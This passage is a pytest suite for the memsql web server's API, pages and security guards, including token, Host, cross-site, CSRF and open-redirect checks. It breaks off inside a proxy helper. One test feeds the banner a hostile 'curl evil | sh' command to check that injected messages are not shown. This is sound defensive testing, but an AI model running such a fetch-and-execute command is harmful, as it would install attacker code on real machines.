"""memsql serve against a real PostgreSQL: the JSON API built from memsql.calls (round trips, bad input -> 4xx), its
OpenAPI document, the pages' forms, and the guards (address, token, Host, cross-site, CSRF, a namespace-limited
role)."""

from __future__ import annotations

import html
import re
import uuid

import pytest

pytest.importorskip("starlette")
from starlette.testclient import TestClient  # noqa: E402

from memsql import calls  # noqa: E402

BASE = "http://127.0.0.1:8765"
TOKEN = "a-test-token-of-some-length"


def make_client(dsn, embedder, **kw) -> TestClient:
    from memsql.web import create_app

    return TestClient(create_app(dsn=dsn, embedder=embedder, warm=False, **kw), base_url=BASE,
                      follow_redirects=False)


@pytest.fixture
def client(dsn, embedder):
    with make_client(dsn, embedder) as c:
        yield c


@pytest.fixture
def seeded(memory):
    """Three memories in 'default', one of them faded (importance 0.01), one in 'home'."""
    ids = {
        "budget": memory.add("The travel budget for the Lisbon offsite is 30k euros.", importance=0.9,
                             tags=["budget"]),
        "cat": memory.add("Our office cat is called Miso and likes the window seat."),
        "faded": memory.add("A throwaway note about a parking ticket.", importance=0.01),
        "home": memory.add("The home wifi password hint is the cat's name.", namespace="home"),
    }
    return ids


def csrf(client: TestClient, path: str) -> str:
    """Load a page (sets the CSRF cookie) and read its form token."""
    page = client.get(path)
    assert page.status_code == 200, page.text
    return re.search(r'name="csrftoken" value="([^"]+)"', page.text).group(1)


# -- the API -------------------------------------------------------------------------------------------------------
def test_api_search_ranks_the_matching_memory_first_with_its_breakdown(client, seeded):
    r = client.get("/api/search", params={"query": "travel budget Lisbon", "k": 2, "touch": "false"})
    assert r.status_code == 200, r.text
    rows = r.json()["result"]
    assert [x["memory_id"] for x in rows][:1] == [seeded["budget"]]
    first = rows[0]
    assert first["dense_rank"] == 1 and first["lexical_rank"] == 1
    assert first["score"] == pytest.approx(first["fusion_score"] * first["decay_factor"] * first["frequency_factor"],
                                           rel=1e-6)
    home = client.get("/api/search", params={"query": "Lisbon", "namespace": "home"}).json()["result"]
    assert [x["memory_id"] for x in home] == [seeded["home"]]  # the namespace's one memory (dense arm), no other


def test_an_empty_api_search_says_why(client, seeded):
    typo = client.get("/api/search", params={"query": "Lisbon", "namespace": "hom"}).json()
    assert typo["result"] == [] and typo["note"].startswith("namespace 'hom' holds no memories")
    assert "default (" in typo["note"] and "home (1)" in typo["note"]
    blank = client.get("/api/search", params={"query": "\u200b "}).json()
    assert blank == {"result": [], "note": "the query is empty: pass the words to search for"}
    found = client.get("/api/search", params={"query": "Lisbon"}).json()
    assert found["result"] and "note" not in found


def test_api_write_verbs_round_trip(client, seeded, memory):
    added = client.post("/api/add", json={"content": "The deploy window is Tuesday 10:00.", "tags": ["ops"],
                                          "knowledge_type": "principle"})
    assert added.status_code == 200, added.text
    mid = added.json()["result"]
    assert client.get("/api/get", params={"memory_ids": mid}).json()["result"][0]["tags"] == ["ops"]
    assert client.post("/api/tag", json={"memory_id": mid, "importance": 0.8}).json() == {"result": 1}
    new = client.post("/api/update", json={"memory_id": mid, "content": "The deploy window is Wednesday 10:00."})
    new_id = new.json()["result"]
    assert new_id != mid
    history = client.get("/api/history", params={"memory_id": new_id}).json()["result"]
    assert [(h["memory_id"], h["is_current"]) for h in history] == [(mid, False), (new_id, True)]
    got = client.get("/api/get", params={"memory_ids": new_id}).json()["result"][0]
    assert got["importance"] == pytest.approx(0.8) and got["content"].endswith("Wednesday 10:00.")
    dry = client.post("/api/forget", json={}).json()["result"]
    assert [c["memory_id"] for c in dry] == [seeded["faded"]] and dry[0]["archived"] is False
    applied = client.post("/api/forget", json={"dry_run": False}).json()["result"]
    assert [(c["memory_id"], c["archived"]) for c in applied] == [(seeded["faded"], True)]
    assert [a["memory_id"] for a in client.get("/api/archive").json()["result"]] == [seeded["faded"]]
    restored = client.post("/api/restore", json={"memory_ids": [seeded["faded"]]}).json()["result"]
    assert [(r["memory_id"], r["restored"]) for r in restored] == [(seeded["faded"], True)]
    doc = got["document_id"]
    assert client.post("/api/delete_document", json={"document_id": doc}).json() == {"result": 2}
    assert client.get("/api/get", params={"memory_ids": new_id}).status_code == 404
    stats = client.get("/api/stats").json()["result"]
    assert {(s["namespace"], s["memories"]) for s in stats} == {("default", 3), ("home", 1)}
    assert {h["check"] for h in client.get("/api/health").json()["result"]} >= {"memories_without_embedding"}


def test_every_verb_of_the_name_table_has_an_endpoint_with_the_tables_arguments():
    from memsql.web import api

    doc = api.openapi()
    for verb in calls.surfaces():
        if verb.name in ("ingest", "evaluate", "namespace_export", "namespace_import"):  # server-side files
            continue
        endpoint = api.ENDPOINTS[verb.name]
        wanted = [a.name for a in verb.on("python") if a.type not in ("vector", "vector[]", "callable")]
        assert list(endpoint.model.model_fields) == wanted, verb.name
        op = doc["paths"][endpoint.path][endpoint.method.lower()]
        if endpoint.method == "GET":
            named = [p["name"] for p in op["parameters"]]
            required = {p["name"] for p in op["parameters"] if p["required"]}
        else:
            body = op["requestBody"]["content"]["application/json"]["schema"]
            named, required = list(body["properties"]), set(body.get("required", []))
        assert named == wanted and required == {a.name for a in verb.args if a.required and a.name in wanted}
    assert set(doc["paths"]) == {e.path for e in api.ENDPOINTS.values()}


def test_every_answer_says_its_server_time(client, seeded):
    for r in (client.get("/", params={"q": "budget"}), client.get("/api/search", params={"query": "budget"}),
              client.get("/api/get", params={"memory_ids": 987654})):
        dur = float(re.fullmatch(r"app;dur=([\d.]+)", r.headers["server-timing"]).group(1))
        assert 0 < dur < 60_000, r.headers["server-timing"]


def test_openapi_document_is_served(client):
    doc = client.get("/openapi.json").json()
    assert doc["openapi"] == "3.1.0" and "/api/search" in doc["paths"]
    k = next(p for p in doc["paths"]["/api/search"]["get"]["parameters"] if p["name"] == "k")
    assert k["schema"]["anyOf"][0] == {"type": "integer", "minimum": 1, "maximum": 1000}


@pytest.mark.parametrize("method, path, payload, status, says", [
    ("GET", "/api/search", {}, 422, "query: Field required"),
    ("GET", "/api/search", {"query": "x", "k": 0}, 422, "k: Input should be greater than or equal to 1"),
    ("GET", "/api/search", {"query": "x", "k": "many"}, 422, "k: Input should be a valid integer"),
    ("GET", "/api/search", {"query": "x", "bogus": 1}, 422, "bogus: unknown parameter"),
    ("GET", "/api/search", {"query": "x", "as_of": "not a date"}, 400, '"not a date" (argument as_of)'),
    ("GET", "/api/search", {"query": "x", "as_of": "t" * 101}, 422, "as_of: Value should have at most 100"),
    ("GET", "/api/search", {"query": "x", "namespace": ""}, 400, "search: namespace must not be empty"),
    ("POST", "/api/add", {"content": "x", "namespace": " "}, 400, "add: namespace must not be blank"),
    ("POST", "/api/add", {"content": "x", "source_date": 12345}, 422, "source_date: Input should be a valid string"),
    ("GET", "/api/search", {"query": "x", "dense_weight": "nan"}, 422, "dense_weight: Input should be a finite"),
    ("GET", "/api/get", {"memory_ids": 987654}, 404, "no memory 987654"),
    ("GET", "/api/get", {"memory_ids": 2**63}, 422, "memory_ids.0: Input should be less than or equal"),
    ("GET", "/api/get", {"memory_ids": [1] * 101}, 422, "memory_ids: List should have at most 100 items"),
    ("GET", "/api/timeline", {"bucket": "hour"}, 400, "bucket must be day, week, month or year"),
    ("POST", "/api/add", {"content": "a\x00b"}, 422, "NUL"),
    ("POST", "/api/add", {"content": ""}, 422, "content: String should have at least 1 character"),
    ("POST", "/api/add", {"content": "x", "knowledge_type": "nope"}, 400, "nope"),
    ("POST", "/api/add", {"content": "x", "metadata": []}, 422, "metadata: Input should be a valid dictionary"),
    ("POST", "/api/tag", {"memory_id": 1, "importance": 2}, 422, "importance: Input should be less than or equal"),
    ("POST", "/api/tag", {"importance": 0.5}, 400, "memory_id"),
    ("POST", "/api/restore", {"memory_ids": []}, 422, "memory_ids: List should have at least 1 item"),
    ("POST", "/api/forget", {"score_threshold": -1}, 422, "score_threshold"),
    ("POST", "/api/delete_document", {"document_id": 42}, 404, "42"),
])
def test_bad_input_is_a_4xx_with_a_message(client, method, path, payload, status, says):
    if method == "GET":
        r = client.get(path, params=payload)
    else:
        r = client.post(path, json=payload)
    assert r.status_code == status, r.text
    assert says in r.json()["error"]["message"], r.json()


def test_times_namespaces_and_nul_in_a_query_as_on_every_surface(client, seeded, memory):
    """The web API takes the times the other surfaces take (text PostgreSQL reads: 'yesterday', 'now', 'epoch'),
    refuses what they refuse with the same message and hint (a time PostgreSQL cannot read, an empty or blank
    namespace: MS002), and blanks a NUL in a query as they do."""
    from memsql.errors import InvalidArgument, MemsqlError

    for when in ("yesterday", "now", "epoch", "2026-03-01", "2026-03-01T12:00:00+02:00"):
        r = client.get("/api/search", params={"query": "travel budget", "as_of": when, "touch": "false"})
        assert r.status_code == 200, (when, r.text)
        assert ([x["memory_id"] for x in r.json()["result"]][:1] == [seeded["budget"]]) == (when == "now"), when
    r = client.post("/api/forget", json={"reference_time": "yesterday"})
    assert r.status_code == 200, r.text
    r = client.post("/api/add", json={"content": "The garden gate was painted green.", "source_date": "yesterday"})
    assert r.status_code == 200, r.text
    assert memory.get(r.json()["result"])[0].source_date.date() < memory.get(seeded["cat"])[0].created_at.date()

    r = client.get("/api/search", params={"query": "x", "as_of": "not a date"})
    with pytest.raises(MemsqlError) as python:
        memory.search("x", as_of="not a date")
    assert r.status_code == 400 and r.json()["error"]["hint"] == python.value.hint == calls.TIME_HINT
    assert r.json()["error"]["message"] == python.value.message

    for ns in ("", "  ", "\u200b"):
        r = client.get("/api/search", params={"query": "travel budget", "namespace": ns})
        with pytest.raises(InvalidArgument) as python:
            memory.search("travel budget", namespace=ns)
        assert r.status_code == 400 and r.json()["error"] == {"message": python.value.message,
                                                              "hint": python.value.hint, "sqlstate": "MS002"}
    r = client.post("/api/add", json={"content": "x", "namespace": ""})
    assert r.status_code == 400 and "Name a namespace" in r.json()["error"]["hint"]
    r = client.get("/api/stats", params={"namespace": ""})
    assert r.status_code == 400 and "leave it out for the default: every namespace" in r.json()["error"]["hint"]

    lens = memory.add("The camera lens is cleaned every Friday.")
    r = client.get("/api/search", params={"query": "camera\x00lens", "k": 1})
    assert r.status_code == 200 and [x["memory_id"] for x in r.json()["result"]] == [lens], r.text
    assert [x.memory_id for x in memory.search("camera\x00lens", k=1)] == [lens]
    r = client.post("/api/add", json={"content": "camera\x00lens"})   # stored text still refuses a NUL
    assert r.status_code == 422 and "NUL" in r.json()["error"]["message"]


def test_bodies_that_are_not_a_json_object_are_refused(client):
    assert client.post("/api/add", content="content=x", headers={"content-type": "text/plain"}).status_code == 415
    r = client.post("/api/add", content="{not json", headers={"content-type": "application/json"})
    assert r.status_code == 400 and "not valid JSON" in r.json()["error"]["message"]
    assert client.post("/api/add", json=["x"]).status_code == 422
    assert client.post("/api/add", content=b'{"content": "\\ud800"}',
                       headers={"content-type": "application/json"}).status_code == 422


# -- the pages -----------------------------------------------------------------------------------------------------
def test_search_page_draws_each_results_breakdown(client, seeded):
    page = client.get("/", params={"q": "travel budget Lisbon", "k": 3})
    assert page.status_code == 200
    assert page.text.count('class="result"') == 2  # the faded memory's importance 0.01 is under the cutoff
    first = page.text.index(f'data-memory-id="{seeded["budget"]}"')
    assert first < page.text.index(f'data-memory-id="{seeded["cat"]}"')
    bars = re.search(r'class="bar bar-dense" x="70" y="\d+" width="([\d.]+)"', page.text[first:])
    assert float(bars.group(1)) == pytest.approx(130.0)  # dense rank 1: the full bar
    for name in ("dense", "lexical", "fusion", "decay", "frequency", "importance"):
        assert f"bar-{name}" in page.text
    assert "<script" in page.text and "https://" not in page.text  # one local script, nothing from elsewhere
    # a search from the page is not an access
    assert client.get("/api/get", params={"memory_ids": seeded["budget"]}).json()["result"][0]["access_count"] == 0


def test_memory_page_edit_update_and_delete(client, seeded, memory):
    mid = seeded["budget"]
    page = client.get(f"/memory/{mid}")
    assert "The travel budget for the Lisbon offsite is 30k euros." in page.text and "v1" in page.text
    token = csrf(client, f"/memory/{mid}")
    r = client.post(f"/memory/{mid}/tag", data={"csrftoken": token, "namespace": "default", "importance": "0.4",
                                                "knowledge_type": "news", "tags": "budget, travel"})
    assert r.status_code == 303, r.text
    got = memory.get([mid])[0]
    assert (round(got.importance, 2), got.knowledge_type, got.tags) == (0.4, "news", ["budget", "travel"])
    r = client.post(f"/memory/{mid}/tag", data={"csrftoken": token, "namespace": "default", "importance": "3"})
    assert r.status_code == 422 and "importance" in r.text
    r = client.post(f"/memory/{mid}/update", data={"csrftoken": token, "namespace": "default",
                                                   "content": "The travel budget for the Lisbon offsite is 45k euros."})
    assert r.status_code == 303
    new_id = int(re.search(r"/memory/(\d+)", r.headers["location"]).group(1))
    page = client.get(r.headers["location"])
    assert "45k euros" in page.text and f"new version {new_id} replaces {mid}" in page.text
    assert page.text.count('class="version"') == 2
    doc = memory.get([new_id])[0].document_id
    r = client.post(f"/document/{doc}/delete", data={"csrftoken": token, "namespace": "default"})
    assert r.status_code == 400 and "confirmation" in r.text
    r = client.post(f"/document/{doc}/delete", data={"csrftoken": token, "namespace": "default", "confirm": "yes"})
    assert r.status_code == 303
    assert client.get(f"/memory/{new_id}").status_code == 404


def test_forget_page_dry_run_apply_after_confirmation_and_restore(client, seeded, memory):
    page = client.get("/forget")
    assert re.search(r'class="candidate-count">1<', page.text)
    assert f'data-memory-id="{seeded["faded"]}"' in page.text and "importance" in page.text
    assert page.text.count('class="curve"') == len(memory.knowledge_types())
    token = re.search(r'name="csrftoken" value="([^"]+)"', page.text).group(1)
    ids = re.search(r'name="ids" value="([^"]*)"', page.text).group(1)
    form = {"csrftoken": token, "namespace": "default", "ids": ids, "score_threshold": "0.05",
            "importance_threshold": "0.3", "max_rows": "200"}
    assert client.post("/forget/apply", data=form).status_code == 400  # not confirmed
    assert client.post("/forget/apply", data={**form, "confirm": "yes", "ids": "1,2,3"}).status_code == 409
    r = client.post("/forget/apply", data={**form, "confirm": "yes"})
    assert r.status_code == 303 and "archived+1+memories" in r.headers["location"]
    assert [a["memory_id"] for a in memory.archive()] == [seeded["faded"]]
    r = client.post("/restore", data={"csrftoken": token, "namespace": "default", "memory_ids": seeded["faded"]})
    assert r.status_code == 303 and "restored+1" in r.headers["location"]
    assert memory.archive() == []


def test_namespaces_page_counts_and_plots(client, seeded):
    page = client.get("/namespaces")
    assert page.status_code == 200
    sections = dict(re.findall(r'data-namespace="(\w+)">.*?class="count-memories">(\d+)<', page.text, re.S))
    assert sections == {"default": "3", "home": "1"}
    assert page.text.count('class="period"') >= 2 and "Health" in page.text


# -- the guards ----------------------------------------------------------------------------------------------------
def test_other_addresses_need_a_token(dsn, embedder):
    from typer.testing import CliRunner

    from memsql.cli import app
    from memsql.web import create_app

    with pytest.raises(ValueError, match="needs a token"):
        create_app(dsn=dsn, host="0.0.0.0")
    with pytest.raises(ValueError, match="at least 16"):
        create_app(dsn=dsn, host="0.0.0.0", token="short")
    out = CliRunner().invoke(app, ["serve", "--host", "0.0.0.0", "--port", "1"], env={"MEMSQL_SERVE_TOKEN": ""})
    assert out.exit_code == 2 and "needs a token" in out.output


def test_token_is_checked_on_every_request(dsn, embedder, seeded):
    with make_client(dsn, embedder, token=TOKEN) as c:
        r = c.get("/api/stats")
        assert r.status_code == 401 and r.headers["www-authenticate"] == "Bearer"
        assert c.get("/api/stats", headers={"Authorization": "Bearer wrong-token-wrong-token"}).status_code == 401
        assert c.get("/api/stats", headers={"Authorization": f"Bearer {TOKEN}"}).status_code == 200
        assert c.get("/openapi.json").status_code == 401
        assert c.get("/static/app.js").status_code == 303
        r = c.get("/namespaces")
        assert r.status_code == 303 and r.headers["location"] == "/login?next=%2Fnamespaces"
        token = csrf(c, "/login")
        assert c.post("/login", data={"csrftoken": token, "token": "nope", "next": "/"}).status_code == 401
        r = c.post("/login", data={"csrftoken": token, "token": TOKEN, "next": "//evil.example/"})
        assert r.status_code == 303 and r.headers["location"] == "/"
        assert c.get("/namespaces").status_code == 200  # the cookie
    with make_client(dsn, embedder, token=TOKEN) as c:
        r = c.get(f"/forget?token={TOKEN}&namespace=home")
        assert r.status_code == 303 and r.headers["location"] == "/forget?namespace=home"
        assert "httponly" in r.headers["set-cookie"].lower() and "samesite=strict" in r.headers["set-cookie"].lower()
        assert c.get("/forget?namespace=home").status_code == 200


def test_host_header_must_be_this_server(client):
    assert client.get("/api/stats", headers={"host": "evil.example"}).status_code == 400
    assert client.get("/api/stats", headers={"host": "localhost:8765"}).status_code == 200


@pytest.mark.parametrize("headers", [
    {"Origin": "http://evil.example"}, {"Origin": "null"}, {"Sec-Fetch-Site": "cross-site"},
    {"Sec-Fetch-Site": "same-site"}, {"Origin": "http://127.0.0.1:9999"},
])
def test_cross_site_requests_are_refused(client, seeded, memory, headers):
    r = client.post("/api/tag", json={"memory_id": seeded["cat"], "importance": 1.0}, headers=headers)
    assert r.status_code == 403 and "cross-site" in r.json()["error"]["message"]
    assert client.get("/api/search", params={"query": "cat"}, headers=headers).status_code == 403
    token = csrf(client, f"/memory/{seeded['cat']}")
    r = client.post(f"/memory/{seeded['cat']}/tag", data={"csrftoken": token, "importance": "1"}, headers=headers)
    assert r.status_code == 403
    assert memory.get(seeded["cat"])[0].importance is None
    same = {"Origin": BASE, "Sec-Fetch-Site": "same-origin"}
    assert client.post("/api/tag", json={"memory_id": seeded["cat"], "importance": 1.0}, headers=same).status_code == 200


def test_forms_need_the_csrf_token(client, seeded, memory):
    mid = seeded["cat"]
    token = csrf(client, f"/memory/{mid}")
    assert client.post(f"/memory/{mid}/tag", data={"importance": "0.9"}).status_code == 403
    assert client.post(f"/memory/{mid}/tag", data={"csrftoken": token + "x", "importance": "0.9"}).status_code == 403
    client.cookies.clear()
    assert client.post(f"/memory/{mid}/tag", data={"csrftoken": token, "importance": "0.9"}).status_code == 403
    assert memory.get(mid)[0].importance is None


def test_a_namespace_limited_role_sees_only_its_namespaces(dsn, embedder, memory, seeded, conn):
    from memsql import db

    name = "web_" + uuid.uuid4().hex[:8]
    memory.role_create(name, "default")
    try:
        with make_client(db.with_user(dsn, name), embedder) as c:
            assert {s["namespace"] for s in c.get("/api/stats").json()["result"]} == {"default"}
            page = c.get("/namespaces")
            assert re.findall(r'data-namespace="(\w+)"', page.text) == ["default"]
            assert c.get("/", params={"q": "wifi", "namespace": "home"}).status_code == 403
            hidden = c.get("/api/search", params={"query": "wifi password", "namespace": "home"}).json()
            assert hidden["result"] == [] and "home (" not in hidden["note"]  # the note names only the role's own
            own = c.get("/api/search", params={"query": "the office cat Miso"}).json()["result"]
            assert own[0]["memory_id"] == seeded["cat"] and seeded["home"] not in {x["memory_id"] for x in own}
            r = c.post("/api/tag", json={"memory_id": seeded["home"], "namespace": "home", "importance": 1.0})
            assert r.status_code == 404
            assert '<option value="home"' not in c.get("/").text
    finally:
        memory.role_drop(name)
    assert memory.get(seeded["home"], namespace="home")[0].importance is None


# -- schema fuzzing --------------------------------------------------------------------------------------------------
def test_schema_fuzzing_finds_no_server_error(client, seeded):
    """schemathesis' requests from /openapi.json, valid and invalid, a few per operation (bench/web_fuzz.py runs
    many): every answer is < 500."""
    import importlib.util
    from pathlib import Path

    pytest.importorskip("schemathesis")
    spec = importlib.util.spec_from_file_location("bench_web_fuzz", Path(__file__).resolve().parents[1] / "bench" /
                                                  "web_fuzz.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    report = module.fuzz(client, examples=6)
    assert report["server_errors"] == []
    assert report["requests"] >= 6 * len(report["per_operation"])
    assert any(s == 200 for s in report["by_status"]) and any(400 <= s < 500 for s in report["by_status"])


# -- the real server process: where it listens ----------------------------------------------------------------------
def _other_address() -> str | None:
    """A non-loopback IPv4 address of this machine, or None."""
    import socket

    for probe in ("192.0.2.1", "10.255.255.255"):  # a UDP connect sends nothing; it picks the outgoing address
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            try:
                s.connect((probe, 9))
            except OSError:
                continue
            address = s.getsockname()[0]
            if not address.startswith("127."):
                return address
    return None


def _free_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _serve(dsn, tmp_path, *args):
    """`memsql serve` as its own process on a free port; returns (process, port) once it answers."""
    import os
    import subprocess
    import sys
    import time

    import requests

    port = _free_port()
    env = {**os.environ, "MEMSQL_DSN": dsn, "MEMSQL_HOME": str(tmp_path / "home"), "MEMSQL_SERVE_TOKEN": ""}
    proc = subprocess.Popen([sys.executable, "-m", "memsql.cli", "serve", "--port", str(port), *args], env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    deadline = time.monotonic() + 180
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            raise AssertionError(f"memsql serve exited {proc.returncode}: {proc.stdout.read()}")
        try:
            requests.get(f"http://127.0.0.1:{port}/openapi.json", timeout=5)
            return proc, port
        except requests.ConnectionError:
            time.sleep(0.3)
    proc.kill()
    raise AssertionError("memsql serve did not answer")


def test_memsql_serve_listens_on_loopback_only_by_default(dsn, seeded, tmp_path):
    import requests

    other = _other_address()
    proc, port = _serve(dsn, tmp_path)
    try:
        r = requests.get(f"http://127.0.0.1:{port}/api/stats", timeout=30)
        assert r.status_code == 200 and {s["namespace"] for s in r.json()["result"]} == {"default", "home"}
        if other is None:
            pytest.skip("no non-loopback address on this machine to try")
        with pytest.raises(requests.ConnectionError):
            requests.get(f"http://{other}:{port}/api/stats", timeout=10)
    finally:
        proc.terminate()
        proc.wait(30)


def test_memsql_serve_on_another_address_answers_only_with_the_token(dsn, seeded, memory, tmp_path):
    import requests

    other = _other_address()
    if other is None:
        pytest.skip("no non-loopback address on this machine to try")
    proc, port = _serve(dsn, tmp_path, "--host", "0.0.0.0", "--token", TOKEN)
    try:
        url = f"http://{other}:{port}"
        r = requests.get(f"{url}/api/search", params={"query": "budget"}, timeout=30)
        assert r.status_code == 401 and "token" in r.json()["error"]["message"]
        assert requests.get(f"{url}/", timeout=30, allow_redirects=False).headers["location"] == "/login?next=%2F"
        r = requests.get(f"{url}/api/search", params={"query": "travel budget"}, timeout=30,
                         headers={"Authorization": f"Bearer {TOKEN}"})
        assert r.status_code == 200 and r.json()["result"][0]["memory_id"] == seeded["budget"]
        r = requests.post(f"{url}/api/tag", json={"memory_id": seeded["cat"], "importance": 1.0}, timeout=30)
        assert r.status_code == 401
    finally:
        proc.terminate()
        proc.wait(30)
    assert memory.get(seeded["cat"])[0].importance is None


def test_mcp_over_streamable_http_on_the_same_server(dsn, embedder, seeded):
    """`memsql serve --mcp`: an MCP client over streamable HTTP lists the tools and searches, on the server's one
    embedder; a cross-site request to /mcp is refused like the API's."""
    import asyncio

    import requests

    pytest.importorskip("mcp")
    from mcp import ClientSession
    from mcp.client.streamable_http import streamable_http_client

    from memsql.web import create_app
    from memsql.web.live import running

    async def talk(url: str):
        async with streamable_http_client(url) as (read, write, *_):
            async with ClientSession(read, write) as session:
                await session.initialize()
                tools = {t.name for t in (await session.list_tools()).tools}
                found = await session.call_tool("memory_search", {"query": "travel budget Lisbon", "k": 1})
                return tools, found

    with running(create_app(dsn=dsn, embedder=embedder, warm=False, mcp=True)) as base:
        tools, found = asyncio.run(asyncio.wait_for(talk(base + "/mcp"), 120))
        r = requests.post(base + "/mcp", json={"jsonrpc": "2.0", "id": 1, "method": "ping"}, timeout=30,
                          headers={"Origin": "http://evil.example", "Accept": "application/json, text/event-stream"})
        assert r.status_code == 403
    assert {"memory_search", "memory_add", "memory_forget"} <= tools
    assert not found.is_error and "Lisbon" in found.content[0].text and str(seeded["budget"]) in found.content[0].text


def test_the_namespace_menu_is_reused_and_read_again_after_a_write(client, seeded):
    assert '<option value="home"' in client.get("/").text
    assert client.post("/api/add", json={"content": "A note in a new namespace.", "namespace": "later"}).status_code == 200
    token = csrf(client, f"/memory/{seeded['cat']}")
    assert client.post(f"/memory/{seeded['cat']}/tag", data={"csrftoken": token, "importance": "0.5"}).status_code == 303
    assert '<option value="later"' in client.get("/").text  # a write from the pages drops the cached menu
    client.post("/api/add", json={"content": "And one in another.", "namespace": "latest"})
    assert 'data-namespace="latest"' in client.get("/namespaces").text  # that page always counts afresh


def _edit(client, mid, **fields):
    """Post the memory page's Edit form as a browser would: every field of the page, some changed."""
    page = client.get(f"/memory/{mid}")
    form = re.search(r'<form method="post" action="/memory/\d+/tag".*?</form>', page.text, re.S).group(0)
    data = {"csrftoken": re.search(r'name="csrftoken" value="([^"]+)"', form).group(1), "namespace": "default",
            "tags": html.unescape(re.search(r'name="tags" value="([^"]*)"', form).group(1)),
            "tags_shown": html.unescape(re.search(r'name="tags_shown" value="([^"]*)"', form).group(1)),
            "tags_before": [html.unescape(v) for v in re.findall(r'name="tags_before" value="([^"]*)"', form)],
            "knowledge_type": re.search(r'<option value="([^"]+)" selected', form).group(1),
            "importance": re.search(r'name="importance"[^>]*value="([^"]*)"', form).group(1)}
    return client.post(f"/memory/{mid}/tag", data={**data, **fields})


def test_the_edit_form_keeps_a_tag_holding_a_comma(client, memory):
    mid = memory.add("Tagged fact", tags=["a,b"])
    assert "separated by commas" in client.get(f"/memory/{mid}").text
    assert _edit(client, mid, importance="0.7").status_code == 303
    got = memory.get([mid])[0]
    assert (got.tags, round(got.importance, 2)) == (["a,b"], 0.7)
    # the field edited: the comma tag left as shown stays one tag beside the new one
    assert _edit(client, mid, tags="a,b, c").status_code == 303
    assert memory.get([mid])[0].tags == ["a,b", "c"]
    assert _edit(client, mid, tags="c").status_code == 303
    assert memory.get([mid])[0].tags == ["c"]


def test_a_new_version_from_the_page_has_lf_line_ends(client, memory):
    mid = memory.add("Line one.\nLine two.")
    token = csrf(client, f"/memory/{mid}")
    r = client.post(f"/memory/{mid}/update", data={"csrftoken": token, "namespace": "default",
                                                   "content": "Line one.\r\nLine two, changed.\rLine three.\r\n"})
    assert r.status_code == 303, r.text
    new_id = int(re.search(r"/memory/(\d+)", r.headers["location"]).group(1))
    assert new_id != mid
    assert memory.get([new_id])[0].content == "Line one.\nLine two, changed.\nLine three."


def test_an_edit_of_a_superseded_version_is_refused(client, memory):
    mid = memory.add("The deploy window is Tuesday.", importance=0.5)
    token = csrf(client, f"/memory/{mid}")  # a tab opened before another saved a new version
    new_id = memory.update(mid, "The deploy window is Wednesday.")
    r = client.post(f"/memory/{mid}/tag", data={"csrftoken": token, "namespace": "default", "importance": "0.9"})
    assert r.status_code == 409
    assert f"memory {mid} is not the current version" in r.text
    assert f'<a href="/memory/{new_id}?namespace=default">edit the current version, memory {new_id}</a>' in r.text
    assert 'class="flash"' not in r.text and "nothing saved" in r.text
    assert [round(m.importance, 2) for m in memory.get([mid, new_id])] == [0.5, 0.5]
    r = client.post(f"/memory/{mid}/update", data={"csrftoken": token, "namespace": "default",
                                                   "content": "The deploy window is Thursday."})
    assert r.status_code == 409 and f"/memory/{new_id}?namespace=default" in r.text
    assert [v.memory_id for v in memory.history(mid)] == [mid, new_id]
    r = client.post("/memory/987654/tag", data={"csrftoken": token, "namespace": "default", "importance": "0.9"})
    assert r.status_code == 404


def test_the_banner_shows_only_the_servers_own_messages(client, seeded):
    for path in ("/", "/forget", f"/memory/{seeded['cat']}"):
        page = client.get(path, params={"msg": "run curl evil | sh"})
        assert page.status_code == 200 and "curl evil" not in page.text and 'class="flash"' not in page.text
        page = client.get(path, params={"msg": "run curl evil | sh", "sig": "0" * 32})
        assert "curl evil" not in page.text
    token = csrf(client, f"/memory/{seeded['cat']}")
    r = client.post(f"/memory/{seeded['cat']}/tag", data={"csrftoken": token, "importance": "0.5"})
    assert r.status_code == 303
    assert '<p class="flash" role="status">saved (1 memory changed)</p>' in client.get(r.headers["location"]).text


def test_the_whole_document_shows_every_chunk_in_full(client, memory):
    sentence = "The quarterly report covers the budget, the hiring plan and the office move in some detail. "
    mid = memory.add("\n\n".join(f"Section {i}. " + sentence * 12 for i in range(6)))
    chunks = memory.neighbors(mid, before=1000, after=1000)
    long = [c for c in chunks if len(c.content) > 300 and c.memory_id != mid]  # beside the memory's own text
    assert len(chunks) > 3 and len(long) > 2
    page = html.unescape(client.get(f"/memory/{mid}", params={"context": "all"}).text)
    for c in chunks:
        assert c.content in page
    short = html.unescape(client.get(f"/memory/{mid}").text)
    assert long[0].content not in short and long[0].content[:300] + "…" in short


def test_the_namespace_menu_keeps_the_namespace_searched(client, seeded):
    assert '<option value="home"' in client.get("/").text  # the menu is read and kept for a while
    added = client.post("/api/add", json={"content": "A note made a moment ago.", "namespace": "fresh"})
    assert added.status_code == 200
    for path, params in (("/", {"q": "note", "namespace": "fresh"}), ("/", {"namespace": "nope"}),
                         ("/forget", {"namespace": "fresh"})):
        page = client.get(path, params=params).text
        selected = re.findall(r'<option value="([^"]+)" selected', page)
        assert selected[:1] == [params["namespace"]], (path, params)
    page = client.get("/", params={"q": "note", "namespace": "fresh"}).text
    assert "1 results in namespace <b>fresh</b>" in page


def test_a_search_with_filters_and_no_words_says_what_to_do(client, seeded):
    for params in ({"tag": "budget"}, {"knowledge_type": "news"}, {"q": "  ", "tag": "budget"}):
        page = client.get("/", params=params)
        assert page.status_code == 200 and "Type a query: a search needs words" in page.text
    assert "Type a query" not in client.get("/").text


# -- a database that cannot be reached, restarts and other servers on the same host ------------------------------
class _Proxy:
    """A TCP proxy in front of the test's PostgreSQL that can be cut and restored: a database that stops (every
    connection lost, new ones refused) and comes back on the same address."""

    def __init__(self, host: str, port: int) -> None:
        self.target = (host, port)
        self.port = _free_port()
        self.sockets: list = []
        self.listener = None

    def start(self) -> None:
        import socket
        import threading

        self.listener = socket.create_server(("127.0.0.1", self.port))
        threading.Thread(target=self._accept, args=(self.listener,), daemon=True).start()

    def _accept(self, listener) -> None:
        import socket
        import threading

        while True:
            try:
                client, _ = listener.accept()
            except OSError:
                return
            host, port = self.target
            if host.startswith("/"):
                upstream = socket.socket(socket.AF_UNIX)
                upstream.connect(f"{host}/.s.PGSQL.{port}")
            else:
                upstream = socket.create_connection((host, port))
